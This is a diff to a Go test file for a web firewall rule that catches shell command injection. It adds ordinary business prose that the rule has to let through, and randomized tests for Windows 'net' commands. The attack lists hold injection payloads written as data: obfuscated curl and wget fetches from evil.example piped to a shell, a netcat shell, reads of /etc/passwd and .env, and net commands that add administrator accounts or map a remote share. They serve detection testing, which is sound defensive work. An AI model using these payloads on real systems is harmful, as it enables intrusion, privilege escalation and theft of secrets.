@@ -104,7 +104,9 @@ func TestShortPayloads(t *testing.T) {
 		"size=10;color=red", "a=1;b=2;c=3", "Mon-Fri 9-5; Sat 10-2", "tel 555-1234; ext 12", "1; or 2", "Q1||Q2", "x || y", "a||b||c",
 		"see p. 3; or not at all", "v1.2;v1.3", "1;2;3", "lat=52.5;lng=13.4", "In 2019; 3 of 4 said yes", "x;y=it's 1 or the other",
 		// near F18: numbers, or/and and prose (rule 210155)
-		"1 or 2 days", "page 1 or 2", "3 and 4 bedrooms", "1 or more", "100 or less", "1 and a half"} {
+		"1 or 2 days", "page 1 or 2", "3 and 4 bedrooms", "1 or more", "100 or less", "1 and a half",
+		// "& net" and a word of prose (a sixth attack's B12, refused before)
+		"Gross & net share price", "Tax & net use", "Sales & net users", "Revenue & net view count", "pros & net user count"} {
 		benign = append(benign,
 			probe{name: v + " in the query", method: "GET", path: "/search?q=" + q(v)},
 			probe{name: v + " in JSON", method: "POST", path: "/api/notes", contentType: js, body: `{"text": "` + jsonEscape(v) + `"}`},
@@ -212,7 +214,12 @@ var shellCommandAttacks = []string{"| id", "; id", ";id", "&& id", "`id`", "x|id
 	"; c'u'rl evil.example/x|s'h'", "; w'h'o'am'i", "; ps aux", "; ip a", "; sleep 5", "127.0.0.1; ping 10.0.0.1", "; kill -9 1",
 	"; cat /etc/passwd", "| cat .env", "x|id|sh", "; nc evil.example 4444", "; nc -e /bin/sh x", "|nc", "x; ver",
 	";w$@get http://evil.example/x", ";who$@ami", ";u$@name -a", ";i$()d", ";i$*d", ";w${x}get evil.example", "|(id)", ";{ id; }", ";(whoami)",
-	"& net user", "& net localgroup administrators", "& ver", "$(id)", "$( id )", "`sleep 5`", "Use `id`", "`id` | nc x 1"}
+	"& net user", "& net localgroup administrators", "& ver", "$(id)", "$( id )", "`sleep 5`", "Use `id`", "`id` | nc x 1",
+	// Windows' net in its real shapes (a sixth fresh-eyes attack's B12
+	// narrowed it to them)
+	"& net user;", "x & net view", "& NET USER", "& net user bob P@ss1 /add", "& net localgroup administrators bob /add",
+	"& net user administrator /active:yes", `& net use z: \\evil.example\c$`, `& net view \\dc01`, "& net group \"Domain Admins\" /domain",
+	"& net accounts /domain", "& net share x=c:\\ /grant:everyone,full", "| net localgroup"}
 
 // shellCommandBenign is ordinary text near 210151's attacks: the fifth
 // fresh-eyes attack's F12 (Markdown tables, inline code, line lists,
@@ -224,6 +231,11 @@ var shellCommandBenign = []string{
 	"Raleigh, NC; nc is North Carolina", "Columns:\r\nid\r\nname", "keys:\nid\nhost\nport", "fields; id 7; name Bob", "Q&A: ps",
 	"bring it; cat lovers", "party; bash at 8", "see `host` and `port` below", "| host | port |\n| a | 80 |", "2026-12-03 WARN retry; sleep well",
 	"`id`, `name` and `email`.", "## Fields\n- `id`: the key\n- `name`: a label", "who; what; where", "A; B; C", "x && y", "me & ps: hi", "rock | pop",
+	// "& net" and a word of prose (a sixth fresh-eyes attack's B12: all
+	// refused by the fifth attack's form)
+	"Gross & net share price", "Tax & net use", "Sales & net users", "Revenue & net view count", "pros & net user count",
+	"net user guide & net view guide", "Gross & net start-up costs", "Tax & net config changes", "Sales & net group sales / year",
+	"Gross & net users / month", "P&L; net use of funds", "Gross & net share price / earnings", "Terms & ver 2",
 }
 
 // TestShellCommandRule measures rule 210151's expression (as Coraza
@@ -275,6 +287,60 @@ func TestShellCommandRule(t *testing.T) {
 		}
 	}
 	t.Logf("random Markdown, logs and lists: %d of %d refused", refused, n)
+}
+
+// TestNetOnProse measures the Windows net part of rule 210151
+// (netCommand) on random prose of "& net" and the words of net's
+// subcommands, prices and counts (a sixth fresh-eyes attack's B12 found
+// "Gross & net share price" refused): none refused; and on random net
+// commands with an option or a UNC path: every one refused.
+func TestNetOnProse(t *testing.T) {
+	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(shellCommandRule(), `\"`, `"`))
+	rng := rand.New(rand.NewPCG(9, 10))
+	pick := func(ws []string) string { return ws[rng.IntN(len(ws))] }
+	subs := []string{"user", "users", "share", "use", "view", "group", "start", "stop", "config", "accounts", "session", "time", "file"}
+	words := []string{"price", "count", "guide", "income", "growth", "of", "the", "a", "and", "per", "margin", "2026", "/", "/ year", "/month",
+		"$5", "10%", "funds", "costs", "sales", "revenue", "figures", "w/o", "and/or", "(see", "below)", "-", "net", "gross"}
+	seps := []string{" ", " ", " ", " ", ", ", "; ", " & ", " / ", " - "}
+	refused, price := 0, 0
+	n := randomSamples
+	for range n {
+		var b strings.Builder
+		b.WriteString(pick([]string{"Gross", "Tax", "Sales", "Revenue", "pros", "P&L", "Profit"}))
+		b.WriteString(pick([]string{" & ", " &", "& ", " && ", "; ", " | "}))
+		b.WriteString(pick([]string{"net", "Net", "NET"}) + " " + pick(subs))
+		for i, k := 0, rng.IntN(6); i < k; i++ {
+			b.WriteString(pick(seps))
+			b.WriteString(pick(words))
+		}
+		if rng.IntN(2) == 0 {
+			b.WriteString(pick([]string{".", " ok", "!", " in 2026"}))
+		}
+		if v := b.String(); rx.MatchString(v) {
+			// the command's own shape: net user or net view at the end
+			// or before a separator ("Sales & net user")
+			if regexp.MustCompile(`(?i)net (?:user|view)\s*(?:$|[;&|#)])`).MatchString(rx.FindString(v)) {
+				price++
+				continue
+			}
+			refused++
+			if refused <= 20 {
+				t.Errorf("random prose %q: refused (%q)", v, rx.FindString(v))
+			}
+		}
+	}
+	t.Logf("random prose with & net: %d of %d refused, and %d with net user or net view at the end or before a separator (the price)", refused, n, price)
+	opts := []string{"/add", "/delete", "/domain", "/active:yes", "/y", "/persistent:no", "/grant:everyone,full", `\\evil.example\c$`}
+	for range n / 10 {
+		v := pick([]string{"x", "127.0.0.1", ""}) + pick([]string{" & ", "&", " && ", "|", ";", "\n"}) + pick([]string{"net", "NET", "Net"}) + " " + pick(subs)
+		for i, k := 0, rng.IntN(4); i < k; i++ {
+			v += " " + pick([]string{"bob", "P@ss1", "administrators", "z:", `"Domain Admins"`, "spooler"})
+		}
+		v += " " + pick(opts)
+		if !rx.MatchString(v) {
+			t.Errorf("%q: not refused", v)
+		}
+	}
 }
 
 // FuzzSQLiAfterSemicolon: rule 210153's operator takes any value without
